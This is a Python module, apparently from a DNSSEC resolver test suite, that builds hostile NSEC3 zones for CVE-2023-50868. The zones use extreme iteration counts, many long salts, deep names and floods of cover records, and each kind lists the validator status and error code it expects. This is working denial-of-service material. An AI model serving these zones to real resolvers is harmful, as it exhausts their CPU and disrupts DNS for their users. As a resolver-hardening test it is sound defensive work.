"""Kinds that make validators hash: NSEC3 with many iterations, long salts and deep names (CVE-2023-50868)."""

import base64
import hashlib

import dns.name
import dns.rdatatype
import dns.rrset

from .zone import HostileZone

_TO_HEX = bytes.maketrans(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", b"0123456789ABCDEFGHIJKLMNOPQRSTUV")


def hashed(name, salt, iterations):
    """RFC 5155 section 5."""
    digest = hashlib.sha1(name.canonicalize().to_wire() + salt).digest()
    for _ in range(iterations):
        digest = hashlib.sha1(digest + salt).digest()
    return digest


def label(digest):
    """Return a hash in base32hex."""
    return base64.b32encode(digest).translate(_TO_HEX).decode().lower()


class _Nsec3Zone(HostileZone):
    """Denies with true NSEC3 records: the apex is the only name, so one record matches and covers all."""

    iterations = 0
    salt = b""

    def build(self):
        self._record = None

    def prove(self, response, question):
        if self._record is None:
            types = sorted(rrtype for name, rrtype in self.sets if name == self.origin)
            self._record = self.nsec3(hashed(self.origin, self.salt, self.iterations), self.salt, types)
        self.add(response.authority, self._record)

    def nsec3(self, digest, salt, types, width=0):
        """Return one NSEC3 that reaches from a hash around to itself, or `width` beyond it."""
        following = (int.from_bytes(digest, "big") + width) % (1 << 160)
        text = f"1 0 {self.iterations} {salt.hex() or '-'} {label(following.to_bytes(20, 'big'))} "
        bitmap = " ".join(dns.rdatatype.to_text(rrtype) for rrtype in types) + (" RRSIG" if types else "")
        owner = dns.name.from_text(label(digest), self.origin)
        return dns.rrset.from_text(owner, self.ttl, "IN", "NSEC3", text + bitmap)


class Iterations65535(_Nsec3Zone):
    """The most iterations that the format has."""

    kind, iterations, salt = "nsec3-65535", 65535, b"\xab" * 8
    codes = ("NSEC3_ITERATIONS",)


class Iterations500(_Nsec3Zone):
    """Ten times what resolvers accept."""

    kind, iterations = "nsec3-500", 500
    codes = ("NSEC3_ITERATIONS",)


class ClosestEncloser(_Nsec3Zone):
    """Names with 120 labels below the apex, and records with different salts: each label costs each salt's hashes."""

    kind, iterations, salts = "nsec3-encloser", 50, 120
    statuses = ("bogus", "indeterminate", "insecure", "secure")
    codes = ("WORK_LIMIT", "NSEC3_ITERATIONS", "DENIAL_MULTIPLE")
    probes = (".".join("a" * 110) + "/A",)

    def prove(self, response, question):
        if self._record is None:
            self._record = []
            for number in range(self.salts):
                salt = number.to_bytes(2, "big") * 100
                self._record.append(self.nsec3(hashed(self.origin, salt, self.iterations), salt, [], width=1))
        for record in self._record:
            self.add(response.authority, record)


class CoverFlood(_Nsec3Zone):
    """One salt and 100 iterations; hundreds of records that match nothing, for a deep name."""

    kind, iterations, salt = "nsec3-flood", 100, b"\xcd" * 200
    statuses = ("bogus", "indeterminate", "insecure", "secure")
    codes = ("WORK_LIMIT", "NSEC3_ITERATIONS", "DENIAL_NO_CLOSEST_ENCLOSER", "DENIAL_NO_MATCH")
    probes = (".".join("b" * 110) + "/A",)

    def prove(self, response, question):
        if self._record is None:
            self._record = [self.nsec3(hashlib.sha1(bytes([number])).digest(), self.salt, [], width=1)
                            for number in range(150)]
        for record in self._record:
            self.add(response.authority, record)


KINDS = [Iterations65535, Iterations500, ClosestEncloser, CoverFlood]
